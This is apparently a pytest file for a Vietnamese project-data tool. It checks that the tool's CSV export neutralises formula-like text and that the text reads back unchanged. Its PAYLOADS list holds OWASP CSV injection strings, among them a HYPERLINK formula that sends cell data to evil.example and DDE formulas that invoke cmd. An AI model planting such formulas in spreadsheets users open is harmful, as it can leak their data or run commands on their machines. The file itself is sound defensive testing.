"""Formula-like text (OWASP "CSV injection") in the CSV files kceval writes: inert in a spreadsheet, read back
unchanged. Payloads from the OWASP page on CSV injection (https://owasp.org/www-community/attacks/CSV_Injection)."""
import csv

import pandas as pd
import pytest

from kceval.cli import main
from kceval.dataset import Dataset
from kceval.io import read_dataset, write_tables
from kceval.io.csvsafe import neutralise, restore

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTab ở đầu", "'=đã có dấu nháy",
            "''+hai dấu nháy", "Máy sấy - loại 2"]


@pytest.mark.parametrize("text", PAYLOADS + ["'", "", "=", "-", "'x", "x=1"])
def test_neutralise_then_restore_is_the_identity(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))  # a spreadsheet reads it as text


def test_payloads_round_trip_through_import_and_load(tmp_path, capsys):
    src = tmp_path / "dongnai.csv"
    rows = [["STT", "Tên đề án", "Nội dung", "Nguồn vốn", "Kinh phí (triệu đồng)", "Ngày phê duyệt",
             "Thời gian hoàn thành", "Tình trạng"]]
    rows += [[str(i + 1), t, "Tư vấn", "KCĐP", "30", "01/03/2019", "30/09/2019", "Đang thực hiện"]
             for i, t in enumerate(PAYLOADS)]
    with open(src, "w", encoding="utf-8", newline="") as f:
        f.write("Báo cáo khuyến công tỉnh Đồng Nai năm 2019\n")
        csv.writer(f).writerows(rows)
    out = tmp_path / "clean"
    assert main(["import", str(src), "--out", str(out)]) == 0
    capsys.readouterr()
    with open(out / "projects.csv", encoding="utf-8", newline="") as f:
        cells = [r["title"] for r in csv.DictReader(f)]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)  # inert in Excel
    titles = [t.strip() for t in PAYLOADS]  # the importer trims a cell's surrounding white space (the tab)
    assert sorted(c for c in cells if c.startswith("'")) == sorted(neutralise(t) for t in titles
                                                                    if neutralise(t) != t)
    back = read_dataset(out).tables["projects"]
    assert sorted(back["title"]) == sorted(titles)  # unchanged in meaning
    assert sorted(Dataset.load(out).projects["title"]) == sorted(titles)
    assert pd.api.types.is_integer_dtype(back["support_vnd"])  # numbers are never quoted


def test_canonical_tables_keep_formula_like_text_exactly(tmp_path, tiny):
    t = {k: v.copy() for k, v in tiny.items()}
    t["projects"]["title"] = (PAYLOADS * 3)[: len(t["projects"])]
    write_tables(t, tmp_path)
    back = read_dataset(tmp_path).tables
    assert back["projects"].set_index("project_id")["title"].to_dict() == \
        t["projects"].set_index("project_id")["title"].to_dict()
    raw = (tmp_path / "projects.csv").read_text(encoding="utf-8")
    assert "\n=" not in raw and ",=" not in raw and ",+" not in raw and ",@" not in raw


def test_arrow_text_is_neutralised_like_python_text():
    from kceval.io.cells import text_array
    from kceval.io.csvsafe import neutralise_frame

    texts = PAYLOADS + [None, "", "x=1"]
    df = pd.DataFrame({"title": text_array(texts), "amount": range(len(texts))}, index=range(50, 50 + len(texts)))
    before = df.copy()
    got = neutralise_frame(df)
    assert [None if v is pd.NA else v for v in got["title"]] == [None if t is None else neutralise(t) for t in texts]
    pd.testing.assert_frame_equal(df, before)  # the input is not changed
    assert got["amount"].tolist() == list(range(len(texts)))
